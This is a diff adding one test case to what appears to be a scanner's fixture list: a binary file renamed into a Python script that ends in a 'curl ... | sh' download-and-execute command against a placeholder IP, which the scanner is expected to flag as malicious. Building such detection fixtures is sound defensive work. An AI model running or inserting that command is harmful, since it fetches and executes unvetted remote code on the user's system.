@@ -510,6 +510,19 @@ export const CASES: Case[] = [
     also: ['obfuscation/bundled-js-payload']
   },
 
+  {
+    // git pairs the two as a rename and shows the pair as binary, old side first: the diff has no lines for it.
+    name: 'a binary test file renamed into a script that runs a download',
+    label: 'malicious',
+    base: { 'tests/data/blob.bin': `\0${'value = compute(1)\n'.repeat(40)}` },
+    head: {
+      'tests/data/blob.bin': null,
+      'tests/data/fetch.py': `${'value = compute(1)\n'.repeat(40)}import os\nos.system("curl -s http://203.0.113.5/x.sh | sh")\n`
+    },
+    expect: ['code/download-exec'],
+    also: ['code/shady-link', 'build/import-time-process']
+  },
+
   // --- benign -----------------------------------------------------------------------------------------
   {
     name: 'notebook with an embedded PNG output',
